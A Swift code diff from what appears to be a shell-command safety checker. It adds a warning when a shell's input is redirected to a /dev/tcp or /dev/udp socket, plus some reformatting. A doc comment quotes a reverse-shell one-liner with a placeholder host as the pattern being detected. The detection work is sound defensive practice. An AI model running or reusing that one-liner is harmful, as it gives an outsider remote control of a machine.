@@ -14,14 +14,18 @@ enum ProgramSource {
         }
         if let known = operand.known, Self.standardInputs.contains(known) {
             self = .standardInput
-        } else if case .unknown(let unknown) = operand.pieces.first, unknown.source.hasPrefix("<(") || unknown.source.hasPrefix("=(") {
+        } else if case .unknown(let unknown) = operand.pieces.first,
+            unknown.source.hasPrefix("<(") || unknown.source.hasPrefix("=(")
+        {
             self = .substitution(operand)
         } else {
             self = .file(operand)
         }
     }
 
-    private static let standardInputs: Set<String> = ["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "/proc/thread-self/fd/0"]
+    private static let standardInputs: Set<String> = [
+        "-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "/proc/thread-self/fd/0",
+    ]
 }
 
 extension CarrierCall {
@@ -42,6 +46,9 @@ extension CarrierCall {
                 let writer = names.last.map { $0.isEmpty ? "another program" : Doubt.quoted($0) } ?? "another program"
                 doubt(.pipedProgram, "`\(name)` runs what \(writer) prints")
             case .inherited:
+                if command.redirections.contains(where: { $0.target.isSocket }) {
+                    return doubt(.pipedProgram, "`\(name)` runs what comes from the network")
+                }
                 switch standardInput {
                 case .terminal: doubt(.interactive, "further commands can be typed into `\(name)`")
                 case .stream: doubt(.pipedProgram, "`\(name)` runs what the client sends to it")
@@ -61,4 +68,9 @@ extension CarrierCall {
         guard command.output == nil else { return }
         doubt(.interactive, "`\(name)`: \(what)")
     }
+}
+
+extension CommandWord {
+    /// The network as bash and ksh open it: `bash -i >& /dev/tcp/host/port 0>&1`.
+    fileprivate var isSocket: Bool { leadingText.map { $0.hasPrefix("/dev/tcp/") || $0.hasPrefix("/dev/udp/") } ?? false }
 }
